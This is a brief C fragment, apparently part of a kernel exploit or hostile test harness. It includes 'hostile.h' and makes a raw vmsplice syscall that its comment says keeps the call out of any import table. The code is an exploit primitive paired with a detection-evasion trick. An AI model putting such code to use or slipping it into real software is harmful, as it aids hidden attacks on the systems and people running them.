/* Gives its pages to a pipe without copying them, by a call that no table of imports shows. */
#include "hostile.h"

static void strike(void)
{
    memset((void *)zeroes, 'k', sizeof zeroes);
    struct iovec pages = {(void *)zeroes, 8 * PAGE};
    if (syscall(SYS_vmsplice, KEPT, &pages, 1, 0) < 0)
        LACK("vmsplice");
}
